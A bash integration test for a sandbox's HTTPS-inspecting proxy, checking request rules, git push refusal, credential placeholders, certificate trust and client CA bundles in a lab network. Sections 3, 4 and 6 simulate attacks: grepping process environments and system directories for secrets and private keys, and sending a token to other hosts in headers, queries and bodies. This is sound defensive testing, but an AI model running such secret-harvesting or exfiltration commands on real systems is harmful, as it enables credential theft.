#!/usr/bin/env bash
# https_inspect: HTTPS inspection (policy "inspect", docs/proxy.md) through `sluice run --allow-network` in
# the lab (embedded netd, whose engine trusts the lab's CA through SLUICE_TLS_TRUST): method and path rules
# allow and deny per request; git clone works and git push is refused with a clear message; a credential
# reaches its host without being readable inside the sandbox, and its placeholder sent elsewhere is refused;
# an upstream whose certificate is not trusted is refused; the session CA's key is nowhere inside; real
# clients (curl, git, python urllib and pip, node, npm) use the sandbox's CA bundle.
set -u
. "$SLUICE_SOURCE_DIR/tests/lib/tap.sh"
. "$SLUICE_SOURCE_DIR/tests/lib/lab.sh"
lab_enter "$@"
_lab_need curl jq git openssl

SLUICE=$SLUICE_BUILD_DIR/sandbox/sluice
lab_internet_up >/dev/null
lab_forward on
# the lab's git server (smart HTTP over TLS, pushes enabled) and an HTTPS server with a self-signed certificate
mkdir -p "$LAB_DIR/git"
git init -q --bare "$LAB_DIR/git/repo.git"
git -C "$LAB_DIR/git/repo.git" config http.receivepack true
(cd "$LAB_DIR" && git init -q seed && cd seed && echo hello >README && git add README &&
	git -c user.name=lab -c user.email=lab@test commit -qm seed && git push -q "$LAB_DIR/git/repo.git" HEAD:refs/heads/main) ||
	lab_bail "cannot seed the lab's git repository"
git -C "$LAB_DIR/git/repo.git" symbolic-ref HEAD refs/heads/main
lab_bg git-https -n inet "$LAB_PYTHON" "$SLUICE_SOURCE_DIR/tests/lib/git-https.py" --port 9444 --root "$LAB_DIR/git" \
	--cert "$LAB_DIR/tls/server.pem" --key "$LAB_DIR/tls/server.key"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 -subj /CN=evil.test \
	-addext subjectAltName=DNS:evil.test -keyout "$LAB_DIR/self.key" -out "$LAB_DIR/self.pem" 2>/dev/null
lab_bg self-signed -n inet openssl s_server -quiet -accept 9443 -cert "$LAB_DIR/self.pem" -key "$LAB_DIR/self.key" -www
lab_wait_port inet "$LAB_OTHER4" 9444 10 || lab_bail "the lab's git server did not start: $(tail -n 5 "$(lab_log git-https)")"
lab_wait_port inet "$LAB_EVIL4" 9443 10 || lab_bail "the self-signed server did not start"
# an HTTPS server that says whether the TLS session was resumed (openssl s_server -www: "New," or "Reused,")
lab_bg resume -n inet openssl s_server -quiet -accept 9445 -cert "$LAB_DIR/tls/server.pem" -key "$LAB_DIR/tls/server.key" -www
lab_wait_port inet "$LAB_ALLOWED4" 9445 10 || lab_bail "the s_server on allowed.test:9445 did not start"

P=$LAB_DIR/proj
H=$LAB_DIR/home
mkdir -p "$P" "$H/.config/sluice"
AUDIT=$LAB_DIR/audit.log
SECRET=lab-secret-$RANDOM$RANDOM$RANDOM
printf '%s\n' "$SECRET" >"$H/api-token"
chmod 0600 "$H/api-token"
# sb ARGS...: sluice run as root (embedded netd) in the project; the engine trusts the lab's CA
sb() { (cd "$P" && exec env -i HOME="$H" PATH=/usr/bin:/bin SLUICE_TLS_TRUST="$LAB_CA" "$SLUICE" run \
	--project-mode ro --allow-network --audit-log "$AUDIT" "$@"); }

cat >"$LAB_DIR/pol.json" <<JSON
{
  "allow": ["allowed.test", "allowed.test:9445", "registry.test", "other.test", "evil.test:9443", "git.other.test:9444"],
  "inspect": [
    {"host": "allowed.test",
     "allow": ["GET,HEAD /pub/**", "GET /status/**", "POST /upload/*", "GET /headers"],
     "deny": ["GET /pub/secret/**"]},
    {"host": "registry.test", "deny": ["GET /simple/sluice-forbidden/**"],
     "credential": {"header": "Authorization: Bearer {secret}", "secret_file": "$H/api-token",
                    "placeholder_env": "API_TOKEN"}},
    {"host": "evil.test"},
    {"host": "git.other.test",
     "deny": [{"path": "/**/info/refs", "query": "service=git-receive-pack"}, "POST /**/git-receive-pack"]}
  ]
}
JSON
GET="curl -sS -m 10 -o /dev/null -w '%{http_code} '"

# 1. Method and path rules, request by request, on one inspected host.
out=$(sb --policy "$LAB_DIR/pol.json" -- sh -c "
	$GET https://allowed.test/pub/a; $GET https://allowed.test/pub/secret/x; $GET https://allowed.test/other;
	$GET -X POST https://allowed.test/upload/f; $GET -X DELETE https://allowed.test/pub/a;
	$GET https://allowed.test/pub/../pub/secret/y; $GET 'https://allowed.test/pub/%73ecret/z'" 2>"$LAB_DIR/err1")
check_eq "allowed, denied by a deny rule, outside the allow rules, POST allowed, DELETE refused, dot segments, escapes" \
	"200 403 403 200 403 403 403" "$(echo $out)"
diag "$(tail -n 5 "$LAB_DIR/err1")"
check_match "the summary names the deny rule that refused a request" \
	"a deny rule decided \(GET /pub/secret/x on allowed\.test: denied by $LAB_DIR/pol\.json:6:15" "$(cat "$LAB_DIR/err1")"
check_match "... and the allow list that did not allow one" "no HTTP rule of $LAB_DIR/pol\.json:4:5" "$(cat "$LAB_DIR/err1")"
recs=$(jq -c 'select(.protocol=="https")' "$AUDIT")
check_match "each request has its own record: method, normalised path, status" \
	'"method":"DELETE","path":"/pub/a","decision":"deny"' "$recs"
check_match "... the allowed ones with status and bytes" '"method":"POST","path":"/upload/f","decision":"allow".*"status":200,"bytes_out":[1-9]' "$recs"
check_match "... a denial names its HTTP rule" "\"path\":\"/pub/secret/z\",\"decision\":\"deny\",\"rule\":\"$LAB_DIR/pol.json:6:15\"" "$recs"
check_match "the CONNECT's own record says it was inspected" 'inspected \(requests are decided one by one\)' \
	"$(jq -c 'select(.protocol=="connect" and .host=="allowed.test")' "$AUDIT")"

# 1b. One upstream connection per inspected tunnel: its first allowed request uses the connection the CONNECT
# dialled (TLS started on it then), the next ones keep it. The inet namespace counts the SYNs to allowed.test:443.
lab_exec inet nft -f - <<EOF || lab_bail "cannot install the SYN counter in the inet namespace"
table inet lab_syns {
	counter allowed443 { }
	chain input {
		type filter hook input priority 0; policy accept;
		ip daddr $LAB_ALLOWED4 tcp dport 443 tcp flags & (syn | ack) == syn counter name allowed443
		ip6 daddr $LAB_ALLOWED6 tcp dport 443 tcp flags & (syn | ack) == syn counter name allowed443
	}
}
EOF
syns() { lab_exec inet nft -j list counter inet lab_syns allowed443 | jq '.nftables[] | select(.counter) | .counter.packets'; }
s0=$(syns)
out=$(sb --policy "$LAB_DIR/pol.json" -- sh -c "$GET -o /dev/null https://allowed.test/pub/one https://allowed.test/pub/two" 2>&1)
check_eq "two requests in one inspected tunnel: both allowed" "200 200" "$(echo $out)"
check_eq "... over one upstream TCP connection (the CONNECT's own)" 1 $(($(syns) - s0))
s0=$(syns)
out=$(sb --policy "$LAB_DIR/pol.json" -- sh -c "$GET -o /dev/null https://allowed.test/other https://allowed.test/pub/three" 2>/dev/null)
check_eq "a refused request, then an allowed one, in one tunnel" "403 200" "$(echo $out)"
check_eq "... one upstream connection too" 1 $(($(syns) - s0))

# 2. git over inspected HTTPS: clone works; push is refused (both the ref advertisement and the pack).
out=$(sb --policy "$LAB_DIR/pol.json" -- sh -c '
	cd /tmp && git clone -q https://git.other.test:9444/repo.git c && cat c/README &&
	cd c && echo more >>README && git -c user.name=a -c user.email=a@test commit -qam change &&
	git push origin HEAD:main; echo "push status $?"' 2>&1)
check_match "git clone through the inspecting proxy works" '^hello$' "$out"
check_match "git push is refused with the proxy's 403" 'returned error: 403' "$out"
check_match "... and fails" 'push status [1-9]' "$out"
check_not "the push never reached the git server" grep -q 'git-receive-pack' "$(lab_log git-https)"
check "the clone did (upload-pack)" grep -q 'POST /repo.git/git-upload-pack 200' "$(lab_log git-https)"
check_match "the refusal is audited with its rule" "\"path\":\"/repo.git/info/refs\",\"decision\":\"deny\",\"rule\":\"$LAB_DIR/pol.json:12:" \
	"$(jq -c 'select(.protocol=="https" and .host=="git.other.test")' "$AUDIT")"

# 3. The credential: the proxy adds it on its host's requests; inside, only the placeholder exists.
out=$(sb --policy "$LAB_DIR/pol.json" -- sh -c 'curl -sS -m 10 https://registry.test/echo -H "Authorization: Bearer $API_TOKEN"')
check_eq "the upstream got the secret in the credential's header" "Bearer $SECRET" \
	"$(jq -r '.headers[] | select(.[0]=="Authorization") | .[1]' <<<"$out")"
out=$(sb --policy "$LAB_DIR/pol.json" -- sh -c '
	echo "env: $API_TOKEN"
	grep -rlse "lab-secre[t]-" /proc/[0-9]*/environ /proc/[0-9]*/cmdline "$HOME" /tmp /etc /run /var/tmp 2>/dev/null | head -3
	cat '"$H"'/api-token 2>&1 | head -1' 2>&1)
check_match "inside, the variable holds a placeholder" '^env: SLUICE-PLACEHOLDER-[0-9a-f]{32}$' "$out"
check_not "the secret is in no environment, command line or file the sandbox can read" grep -q 'lab-secret-' <<<"$out"
check_not "... not even the secret file" grep -q "$SECRET" <<<"$out"

# 4. The placeholder sent anywhere else is refused and audited as exfiltration (inspected or plain HTTP).
out=$(sb --policy "$LAB_DIR/pol.json" -- sh -c "
	$GET -H \"X-Token: \$API_TOKEN\" https://allowed.test/headers; $GET \"http://other.test/?t=\$API_TOKEN\";
	$GET -d \"key=\$API_TOKEN\" https://allowed.test/upload/x")
check_eq "the placeholder to other hosts: refused in a header, a query and a body" "403 403 403" "$(echo $out)"
check_eq "... three exfiltration records" 3 \
	"$(jq -c 'select(.decision=="deny" and (.reason // "" | test("exfiltration")))' "$AUDIT" | wc -l)"

# ... also deep in a body that arrives after its head (the whole body is searched as it goes upstream): the
# request is cut off before the placeholder, the origin never gets a complete request.
out=$(sb --policy "$LAB_DIR/pol.json" -- sh -c '
	head -c 300000 /dev/zero | tr "\0" a >/tmp/big && printf "&key=%s" "$API_TOKEN" >>/tmp/big
	curl -sS -m 10 -o /dev/null -w "%{http_code}" -H "Expect:" --data-binary @/tmp/big https://allowed.test/upload/big
	echo " status $?"' 2>/dev/null)
check_not "a placeholder after 300 kB of body: the upload does not succeed" grep -q '^200' <<<"$out"
diag "curl: $out"
check_match "... refused as exfiltration, with the credential's rule" \
	"\"path\":\"/upload/big\",\"decision\":\"deny\",\"rule\":\"$LAB_DIR/pol.json:[0-9]+:[0-9]+\".*exfiltration: this request's body" \
	"$(jq -c 'select(.protocol=="https")' "$AUDIT")"
check_not "... and the origin never got the request" grep -q '/upload/big' <<<"$(lab_http_requests)"

# 5. An upstream whose certificate is not trusted: a clear 502, audited.
out=$(sb --policy "$LAB_DIR/pol.json" -- sh -c 'curl -sS -m 10 https://evil.test:9443/; echo "status $?"' 2>&1)
check_match "an untrusted upstream certificate: 502 with the reason" 'not trusted: self-signed certificate' "$out"
check_match "... audited as an error" '"error":"the upstream.s TLS certificate for evil.test is not trusted' \
	"$(jq -c 'select(.protocol=="https" and .host=="evil.test")' "$AUDIT")"

# 6. The session CA's key is nowhere inside; its certificate is in the system bundle and the variables.
out=$(sb --policy "$LAB_DIR/pol.json" -- sh -c '
	grep -rlse "BEGIN PRIVATE KE[Y]" /proc/[0-9]*/environ /tmp /etc/ssl "$HOME" /run 2>/dev/null | grep -v "^/run/lab" | head -3
	grep -c "BEGIN CERTIFICATE" /etc/ssl/certs/ca-certificates.crt
	echo "vars: $SSL_CERT_FILE $CURL_CA_BUNDLE $REQUESTS_CA_BUNDLE $PIP_CERT $NODE_EXTRA_CA_CERTS $GIT_SSL_CAINFO $CARGO_HTTP_CAINFO"' 2>&1)
check_not "no private key readable inside" grep -q 'PRIVATE' <<<"$out"
check_eq "the bundle inside is the host's plus the session CA" "$(($(grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt) + 1))" \
	"$(sed -n 1p <<<"$out")"
check_match "the variables name it" "^vars:( /etc/ssl/certs/ca-certificates.crt){7}$" "$(sed -n 2p <<<"$out")"
# Upstream TLS sessions: a second tunnel to the same host resumes the first's session (two curls, two CONNECTs).
out=$(sb --policy "$LAB_DIR/pol.json" -- sh -c 'for i in 1 2; do curl -sS -m 10 https://allowed.test:9445/pub/r$i |
	grep -E "^(New|Reused), "; done' 2>&1)
check_match "a second inspected tunnel to a host resumes the upstream TLS session of the first" \
	'^New, TLSv1.3, Cipher is TLS_AES_128_GCM_SHA256 Reused, TLSv1.3' "$(echo $out)"

out=$(sb -- sh -c 'echo "vars: ${SSL_CERT_FILE:-none}"; grep -c "BEGIN CERTIFICATE" /etc/ssl/certs/ca-certificates.crt' 2>&1)
check_eq "a session that inspects nothing gets neither" "vars: none $(grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt)" "$(echo $out)"

# 7. Real clients with the sandbox's trust: python (urllib, pip), node (its own TLS), npm.
out=$(sb --policy "$LAB_DIR/pol.json" -- "$LAB_PYTHON" -c '
import urllib.request
print(urllib.request.urlopen("https://allowed.test/pub/py", timeout=10).status)' 2>&1)
check_eq "python urllib through the inspecting proxy" 200 "$out"
# A client that sends its ClientHello in the same write as its CONNECT head (the proxy reads it before its
# 200 went out): the 200 first, then the TLS the engine runs on the socket with those bytes handed to it.
out=$(sb --policy "$LAB_DIR/pol.json" -- "$LAB_PYTHON" -c '
import os, socket, ssl, urllib.parse
u = urllib.parse.urlsplit(os.environ.get("https_proxy") or os.environ["HTTPS_PROXY"])
inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = ssl.create_default_context().wrap_bio(inc, out, server_hostname="allowed.test")
s = socket.create_connection((u.hostname, u.port), timeout=10)
def more():
    d = s.recv(65536)
    if not d:
        raise SystemExit("closed")
    inc.write(d)
try:
    tls.do_handshake()
except ssl.SSLWantReadError:
    pass
s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n" + out.read())
buf = b""
while b"\r\n\r\n" not in buf:
    d = s.recv(65536)
    if not d:
        raise SystemExit("closed after %r" % buf)
    buf += d
head, _, rest = buf.partition(b"\r\n\r\n")
print(head.split(b"\r\n")[0].decode())
inc.write(rest)
while True:
    try:
        tls.do_handshake()
        break
    except ssl.SSLWantReadError:
        s.sendall(out.read())
        more()
tls.write(b"GET /pub/eager HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
s.sendall(out.read())
resp = b""
while b"\r\n" not in resp:
    try:
        resp += tls.read(65536)
    except ssl.SSLWantReadError:
        more()
print(resp.split(b"\r\n")[0].decode())' 2>&1)
check_match "a ClientHello right behind the CONNECT head: the 200, then TLS with the session CA" \
	'^HTTP/1.1 200 Connection established$' "$(sed -n 1p <<<"$out")"
check_match "... and the request over it answered" '^HTTP/1.1 200' "$(sed -n 2p <<<"$out")"
out=$(sb --policy "$LAB_DIR/pol.json" -- sh -c 'p=${https_proxy#http://}; openssl s_client -brief -proxy "${p%/}" \
	-connect allowed.test:443 -servername allowed.test </dev/null 2>&1' 2>&1)
check_match "the inspecting proxy's TLS: 1.3, AES-128-GCM first (OpenSSL's client lists AES-256 first)" \
	'Protocol version: TLSv1.3.*Ciphersuite: TLS_AES_128_GCM_SHA256' "$(echo $out)"
# pip from the lab's PyPI simple index, with the PIP_CERT sluice sets (a pip from PyPI has its own CA bundle
# otherwise; Debian's reads the system bundle, which is the merged one inside too)
PIP="$LAB_PYTHON -m pip --no-cache-dir --disable-pip-version-check --no-input --timeout 10"
out=$(sb --policy "$LAB_DIR/pol.json" -- sh -c "
	$PIP install -q --no-deps --target /tmp/site --index-url https://registry.test/simple/ sluice-demo &&
	PYTHONPATH=/tmp/site $LAB_PYTHON -c 'import sluice_demo; print(sluice_demo.VALUE)'" 2>&1)
check_match "pip installs a wheel from the index through the inspecting proxy" '^sluice-demo from the sluice lab$' "$out"
diag "$(tail -n 3 <<<"$out")"
check_eq "... (the index page and the wheel, inspected)" '"/simple/sluice-demo/" 200 "/packages/sluice_demo-1.0.0-py3-none-any.whl" 200' \
	"$(jq -r 'select(.protocol=="https" and .host=="registry.test" and .event!="decision" and (.path|test("sluice.demo"))) |
		"\"\(.path)\" \(.status)"' "$AUDIT" | tr '\n' ' ' | sed 's/ $//')"
out=$(sb --policy "$LAB_DIR/pol.json" -- sh -c "
	$PIP download -d /tmp/dl --no-deps --index-url https://registry.test/simple/ sluice-forbidden; echo \"pip status \$?\"" 2>&1)
check_match "pip of a project the HTTP rules refuse fails" 'pip status [1-9]' "$out"
check_match "... finding nothing (pip keeps an index page's 403 to its debug log)" 'No matching distribution found for sluice-forbidden' "$out"
check_match "... refused by sluice with 403, audited with the rule" \
	"\"path\":\"/simple/sluice-forbidden/\",\"decision\":\"deny\",\"rule\":\"$LAB_DIR/pol.json:7:[0-9]+\".*\"status\":403" \
	"$(jq -c 'select(.protocol=="https" and .host=="registry.test")' "$AUDIT")"
check_match "... and the denial summary names the rule" "GET /simple/sluice-forbidden/ on registry\.test: denied by $LAB_DIR/pol\.json:7:" "$out"
check_not "... the index page of it never reached the registry" grep -q '/simple/sluice-forbidden' <<<"$(lab_http_requests)"
command -v node >/dev/null || lab_bail "node is not installed (tools/debian-packages.txt: nodejs)"
command -v npm >/dev/null || lab_bail "npm is not installed (tools/debian-packages.txt: npm)"
cat >"$P/client.js" <<'JS'
// CONNECT through $HTTPS_PROXY, then node's own TLS (NODE_EXTRA_CA_CERTS is the sandbox's bundle)
const http = require("http"), tls = require("tls"), u = new URL(process.env.HTTPS_PROXY);
http.request({host: u.hostname, port: u.port, method: "CONNECT", path: "allowed.test:443",
              headers: {Host: "allowed.test:443"}}).on("connect", (res, sock) => {
  const t = tls.connect({socket: sock, servername: "allowed.test"}, () => {
    t.write("GET /pub/node HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n");
  });
  let data = "";
  t.on("data", (d) => data += d).on("end", () => console.log(data.split("\r\n")[0]));
  t.on("error", (e) => console.log("error " + e.message));
}).end();
JS
out=$(sb --policy "$LAB_DIR/pol.json" -- timeout 20 node "$P/client.js" 2>&1)
check_eq "node (its own TLS stack) trusts the session CA" "HTTP/1.1 200 OK" "$out"
out=$(sb --policy "$LAB_DIR/pol.json" -- timeout 60 npm view sluice-demo version --registry https://registry.test/ \
	--cache /tmp/npm-cache 2>&1)
check_match "npm through the inspecting proxy" '^1\.0\.0$' "$out"
